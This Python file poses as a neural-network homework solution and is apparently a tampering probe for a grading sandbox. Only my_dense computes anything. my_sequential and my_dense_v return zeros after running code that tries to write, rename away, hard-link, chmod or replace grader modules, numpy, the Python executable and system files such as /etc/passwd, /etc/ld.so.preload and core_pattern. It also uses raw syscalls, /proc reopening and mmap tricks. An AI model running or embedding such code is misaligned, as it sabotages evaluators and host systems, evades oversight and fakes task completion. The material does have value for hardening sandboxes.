"""Tampering: writes, renames, links, truncates and touches what is not its own, by every call there is.

points: 30
extra: 0
"""
# %%
import numpy as np


def my_dense(a_in, W, b, g):
    return np.array([g(np.dot(W[:, j], a_in) + b[j]) for j in range(W.shape[1])], dtype=float)


# %%
import ctypes
import glob
import mmap
import os
import shutil
import socket
import stat
import sys
import sysconfig

LIBC = ctypes.CDLL(None, use_errno=True)
HOME = os.path.realpath(os.getcwd())
# x86-64 and aarch64: fchmodat2, openat2, renameat2, setxattrat are younger than most filters.
CALLS = {"openat2": 437, "fchmodat2": 452, "setxattrat": 463, "renameat2": 316 if os.uname().machine == "x86_64" else 276}


SHARED = {os.stat(one).st_dev for one in ("/", os.path.dirname(np.__file__), os.path.dirname(os.__file__))}


def own(path):
    """Whether it is in our own folder, wherever links and mounts put it."""
    try:
        real = os.path.realpath(path)
        if real.startswith(f"/proc/{os.getpid()}/"):
            return True
        if (real + "/").startswith(HOME + "/"):
            return True
        there = os.stat(real if os.path.isdir(real) else os.path.dirname(real))
        # A folder that nobody else may enter, such as a /dev/shm of our own.
        private = there.st_uid == os.getuid() and not there.st_mode & 0o077
        return os.path.samestat(there, os.stat(HOME)) or private and there.st_dev not in SHARED
    except OSError:
        return False


def targets():
    """Files and folders that somebody else needs."""
    helpers = [getattr(sys.modules.get("autils"), "__file__", None), *glob.glob("data/*"), os.path.realpath("data")]
    yield from filter(None, helpers)
    for path in sys.path:
        yield path
        yield from glob.glob(path + "/*.py")[:3]
    yield from (np.__file__, os.path.dirname(np.__file__), os.__file__, sys.executable, ctypes.__file__)
    yield from sysconfig.get_paths().values()
    for name, module in list(sys.modules.items()):
        if name.startswith(("grader", "msgspec", "numpy._core")) and getattr(module, "__file__", None):
            yield module.__file__
            yield os.path.dirname(module.__file__)
    yield from ("/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/usr/lib", "/etc", "/etc/passwd", "/etc/localtime",
                "/etc/ld.so.cache", "/etc/ld.so.preload", "/root", "/home", "/scratch", "/mnt", "/opt", "/dev")
    yield from ("/dev/null", "/dev/zero", "/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/console", "/dev/ptmx", "/dev/fuse")
    yield from ("/proc/self/oom_score_adj", "/proc/self/comm", "/proc/self/uid_map", "/proc/self/attr/current",
                "/proc/self/timerslack_ns", "/proc/self/coredump_filter", "/proc/self/clear_refs", "/proc/self/loginuid")
    yield from ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/1/mem",
                f"/proc/{os.getppid()}/oom_score_adj", "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/mm/ksm/run",
                "/sys/devices/system/cpu/cpu1/online", "/sys/power/state")


DEVICES = {"/dev/null", "/dev/zero"}  # may be written, and hold nothing


def ways(path):
    """Ways to change something at a path, each by its name."""
    folder = os.path.isdir(path)
    inside = os.path.join(path, "attack_here") if folder else path + ".attack_here"
    inside = inside if folder else os.path.join(os.path.dirname(path), "attack_here")
    yield "open r+", lambda: os.close(os.open(path, os.O_RDWR)) if not folder and path not in DEVICES else fail()
    yield "open a", lambda: os.close(os.open(path, os.O_WRONLY | os.O_APPEND)) if not folder and path not in DEVICES else fail()
    yield "create", lambda: os.close(os.open(inside, os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o666))
    yield "nameless", lambda: os.close(os.open(path if folder else os.path.dirname(path), os.O_TMPFILE | os.O_WRONLY, 0o600))
    yield "truncate", lambda: os.truncate(path, os.stat(path).st_size)
    yield "mkdir", lambda: os.mkdir(inside + "_folder")
    yield "symlink", lambda: os.symlink("/etc/passwd", inside + "_link")
    yield "link in", lambda: os.link("attack_own", inside + "_hard")
    yield "link out", lambda: os.link(path, "attack_taken") if not folder else fail()
    yield "rename in", lambda: os.rename("attack_own2", inside + "_moved")
    yield "rename out", lambda: os.rename(path, "attack_moved")
    yield "exchange", lambda: syscall("renameat2", -100, path.encode(), -100, b"attack_own", 2)
    yield "mknod", lambda: os.mknod(inside + "_fifo", stat.S_IFIFO | 0o666)
    yield "device", lambda: os.mknod("attack_device", stat.S_IFBLK | 0o666, os.makedev(8, 0))
    yield "socket", lambda: listen(inside + "_socket")
    yield "chmod", lambda: felt(path, lambda: os.chmod(path, stat.S_IMODE(os.stat(path).st_mode)))
    yield "fchmodat2", lambda: felt(path, lambda: syscall("fchmodat2", -100, path.encode(), stat.S_IMODE(os.stat(path).st_mode), 0))
    yield "chown", lambda: felt(path, lambda: os.chown(path, os.getuid(), -1) if os.stat(path).st_uid != os.getuid() else fail())
    yield "chown same", lambda: felt(path, lambda: os.chown(path, os.stat(path).st_uid, os.stat(path).st_gid))
    yield "utime", lambda: felt(path, lambda: os.utime(path, (os.stat(path).st_atime, os.stat(path).st_mtime)))
    yield "setxattr", lambda: os.setxattr(path, "user.attack_here", b"1")
    yield "by descriptor", lambda: by_descriptor(path)
    yield "by /proc", lambda: by_proc(path) if not folder and path not in DEVICES else fail()
    yield "mmap", lambda: by_mmap(path) if not folder else fail()
    yield "openat2", lambda: syscall("openat2", -100, inside.encode(), (ctypes.c_uint64 * 3)(os.O_CREAT | os.O_RDWR, 0o600, 0), 24)
    yield "copy", lambda: shutil.copyfile("attack_own", inside + "_copy")


def fail():
    raise OSError


def felt(path, act):
    """Fails unless there was a change: what only seems to succeed does no harm."""
    before = os.stat(path).st_ctime_ns
    act()
    if os.stat(path).st_ctime_ns == before:
        fail()


def syscall(name, *arguments):
    given = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    if LIBC.syscall(ctypes.c_long(CALLS[name]), *given) == -1:
        raise OSError(ctypes.get_errno(), name)


def listen(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(path)


def by_descriptor(path):
    """Changes to what is only open for reading."""
    descriptor = os.open(path, os.O_RDONLY)
    try:
        done = []
        for way in (lambda: felt(path, lambda: os.fchmod(descriptor, stat.S_IMODE(os.fstat(descriptor).st_mode))),
                    lambda: os.ftruncate(descriptor, os.fstat(descriptor).st_size),
                    lambda: os.pwrite(descriptor, b"", 0) if os.fstat(descriptor).st_size else fail(),
                    lambda: os.posix_fallocate(descriptor, 0, 1),
                    # Whoever may write to a device may set its times: those of /dev/null are nobody's.
                    lambda: felt(path, lambda: os.utime(descriptor)) if not path.startswith("/dev/") else fail(),
                    lambda: os.setxattr(descriptor, "user.attack_here", b"1")):
            try:
                way()
                done.append(way)
            except OSError:
                pass
        if not done:
            fail()
    finally:
        os.close(descriptor)


def by_proc(path):
    """The link in /proc to an open file, opened once more, for writing."""
    descriptor = os.open(path, os.O_RDONLY)
    try:
        os.close(os.open(f"/proc/self/fd/{descriptor}", os.O_RDWR))
    finally:
        os.close(descriptor)


def by_mmap(path):
    """A shared mapping of it that can be made writable."""
    descriptor = os.open(path, os.O_RDONLY)
    try:
        held = mmap.mmap(descriptor, 1, mmap.MAP_SHARED, mmap.PROT_READ)
        address = ctypes.addressof(ctypes.c_char.from_buffer_copy(held[:1]))
        del address
        LIBC.mmap.restype = ctypes.c_void_p
        where = LIBC.mmap(None, 4096, 1, 1, descriptor, ctypes.c_long(0))
        if where in (None, ctypes.c_void_p(-1).value) or LIBC.mprotect(ctypes.c_void_p(where), 4096, 3):
            fail()
    finally:
        os.close(descriptor)


def look():
    for name in ("attack_own", "attack_own2"):
        with open(name, "w") as file:
            file.write("mine")
    done = []
    for path in dict.fromkeys(targets()):
        for name, way in ways(path):
            try:
                way()
            except (OSError, ValueError, TypeError):
                continue
            if name == "device" or not own(path):
                done.append(f"{name} of {path}")
    if done:
        tell(done)


def tell(done):
    raise RuntimeError("GAINED: " + "; ".join(done)[:500])


def my_sequential(x, W1, b1, W2, b2, W3, b3):
    import autils

    look()
    return np.zeros(len(b3))


# %%
def my_dense_v(A_in, W, b, g):
    """From inside the folders: paths that are relative, or lead up and down again."""
    done = []
    for path in dict.fromkeys(targets()):
        if not os.path.isdir(path) or own(path):
            continue
        here = os.open(".", os.O_RDONLY)
        try:
            os.chdir(path)
            for name, way in (("create", lambda: os.close(os.open("attack_here", os.O_CREAT | os.O_WRONLY, 0o666))),
                              ("through ..", lambda: os.close(os.open(f"{HOME}/../{path}/attack_here", os.O_CREAT | os.O_WRONLY))),
                              ("touch", lambda: felt(".", lambda: os.utime("."))), ("mode", lambda: felt(".", lambda: os.chmod(".", os.stat(".").st_mode & 0o7777)))):
                try:
                    # Folders that all may write to let all set their times.
                    if name == "touch" and os.stat(".").st_mode & 0o002:
                        continue
                    way()
                    done.append(f"{name} in {path}")
                except OSError:
                    pass
        except OSError:
            pass
        finally:
            os.fchdir(here)
            os.close(here)
    if done:
        tell(done)
    return np.zeros((len(A_in), W.shape[1]))
